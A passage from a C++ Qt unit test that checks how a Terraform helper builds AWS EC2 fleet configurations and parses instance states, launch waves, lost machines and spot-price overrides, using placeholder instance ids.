                              "c3-n-3":{"id":"i-0bbbbbbbbbbbbbbb0","machine":3}}},
        "fleet_machines":{"value":{"running":{"ids":["i-0bbbbbbbbbbbbbbb0"],"public_ips":["203.0.113.8"]},
                                   "stopping":{"ids":[]},"stopped":{"ids":["i-0123456789abcdef0"]}}}},
        "root_module":{"resources":[]}}})";
    bool ok = false;
    QCOMPARE(Terraform::parseInstanceStates(shown, &ok),
             (QMap<QString, QString> { { QStringLiteral("c1-n-1"), QStringLiteral("stopped") },
                                       { QStringLiteral("c3-n-3"), QStringLiteral("running") } }));
    QVERIFY(ok);
    // A machine the fleet did not give (or lost) is launched by a fleet of its own, a launch wave (waveW, W from 2),
    // sized for the machines it asks for and otherwise the first fleet; which machines each wave asked for, and
    // each machine's instance, are read back from the configuration by a later provision.
    settings.waves = { { 2 } };
    const QJsonObject withWave
        = Terraform::withMachines(Terraform::configuration(QStringLiteral("exp"), s, settings), *ids, spread);
    const QJsonObject fleets
        = withWave.value(QStringLiteral("resource")).toObject().value(QStringLiteral("aws_ec2_fleet")).toObject();
    QCOMPARE(fleets.keys(), (QStringList { QStringLiteral("machines"), QStringLiteral("wave2") }));
    const QJsonObject wave2 = fleets.value(QStringLiteral("wave2")).toObject();
    QCOMPARE(wave2.value(QStringLiteral("type")).toString(), QStringLiteral("instant"));
    QCOMPARE(wave2.value(QStringLiteral("target_capacity_specification"))
                 .toArray()
                 .at(0)
                 .toObject()
                 .value(QStringLiteral("total_target_capacity"))
                 .toInt(),
             1);
    QCOMPARE(wave2.value(QStringLiteral("launch_template_config")),
             fleet.value(QStringLiteral("launch_template_config")));
    const Terraform::FleetMachines known = Terraform::fleetMachines(withWave, 2);
    QCOMPARE(known.waves, (QList<QList<int>> { { 2 } }));
    QCOMPARE(known.ids, (QStringList { QStringLiteral("i-0123456789abcdef0"), QString() }));
    QCOMPARE(Terraform::parseWaveOutput(
                 R"({"waves":{"value":{"wave2":{"machines":[2],"instances":["i-0fedcba9876543210"]}}}})", 0),
             QStringList { QStringLiteral("i-0fedcba9876543210") });
    // The lookups of the fleet's machines come after every wave's fleet, so the apply that launches a wave reads
    // its machines too: they are the launch template's, with the same tags.
    QCOMPARE(withWave.value(QStringLiteral("data"))
                 .toObject()
                 .value(QStringLiteral("aws_instances"))
                 .toObject()
                 .value(QStringLiteral("fleet_stopped"))
                 .toObject()
                 .value(QStringLiteral("depends_on"))
                 .toArray(),
             (QJsonArray { QStringLiteral("aws_ec2_fleet.machines"), QStringLiteral("aws_ec2_fleet.wave2") }));
    // A later provision reads the machines back from the configuration made before the lookups, too.
    QJsonObject older = withWave;
    older.insert(QStringLiteral("data"),
                 QJsonObject { { QStringLiteral("aws_instance"),
                                 QJsonObject { { QStringLiteral("m2"),
                                                 QJsonObject { { QStringLiteral("instance_id"),
                                                                 QStringLiteral("i-0aaaaaaaaaaaaaaa0") } } } } } });
    QCOMPARE(Terraform::fleetMachines(older, 2).ids,
             (QStringList { QStringLiteral("i-0123456789abcdef0"), QStringLiteral("i-0aaaaaaaaaaaaaaa0") }));
    // What EC2 says of each machine, by the lookups: one in none of them is gone (terminated, or so long ago that
    // EC2 no longer lists it), whose conditions are not an error: it is lost.
    const QByteArray later = R"({"fleet_instances":{"value":["i-0123456789abcdef0"]},
        "fleet_machines":{"value":{"running":{"ids":["i-0bbbbbbbbbbbbbbb0"],"public_ips":["203.0.113.8"]},
                                   "stopping":{"ids":[]},"stopped":{"ids":["i-0aaaaaaaaaaaaaaa0"]}}}})";
    const QStringList twoMachines { QStringLiteral("i-0123456789abcdef0"), QStringLiteral("i-0aaaaaaaaaaaaaaa0") };
    QCOMPARE(Terraform::machineStates(later, twoMachines),
             (QMap<int, QString> { { 1, QStringLiteral("gone") }, { 2, QStringLiteral("stopped") } }));
    QCOMPARE(Terraform::machineStates(R"({"fleet_instances":{"value":[]}})", twoMachines), (QMap<int, QString>()));
    const auto lost = Terraform::parseOutput(later, false, machines);
    QVERIFY2(lost, qPrintable(lost.message()));
    QCOMPARE(lost->size(), 3);
    for (const Terraform::Instance& i : *lost)
        QVERIFY(i.gone && i.address.isEmpty());
    QVERIFY(Terraform::parseOutput(later, true, machines)->isEmpty());
    // Which machines the lookups found: a condition's machine not among them is lost (deploy releases it).
    QCOMPARE(Terraform::fleetMachinesFound(later).value_or(QSet<QString>()),
             (QSet<QString> { QStringLiteral("i-0bbbbbbbbbbbbbbb0"), QStringLiteral("i-0aaaaaaaaaaaaaaa0") }));
    QVERIFY(!Terraform::fleetMachinesFound(R"({"fleet_instances":{"value":[]}})"));
    settings.waves.clear();
    // Spot is the fleet's, with the price cap as an override.
    settings.spot = true;
    settings.spotMaxPrice = QStringLiteral("0.05");
    const QJsonObject spotFleet = Terraform::configuration(QStringLiteral("exp"), s, settings)
                                      .value(QStringLiteral("resource"))
                                      .toObject()
                                      .value(QStringLiteral("aws_ec2_fleet"))
                                      .toObject()
                                      .value(QStringLiteral("machines"))
                                      .toObject();
    QCOMPARE(spotFleet.value(QStringLiteral("target_capacity_specification"))
                 .toArray()
                 .at(0)
                 .toObject()
                 .value(QStringLiteral("default_target_capacity_type"))
                 .toString(),
             QStringLiteral("spot"));
    QCOMPARE(spotFleet.value(QStringLiteral("launch_template_config"))
                 .toArray()
                 .at(0)
                 .toObject()
                 .value(QStringLiteral("override"))
                 .toArray()
                 .at(0)
                 .toObject()
                 .value(QStringLiteral("max_price"))
                 .toString(),
             QStringLiteral("0.05"));
}

QTEST_GUILESS_MAIN(TestDeployState)
#include "TestDeployState.moc"
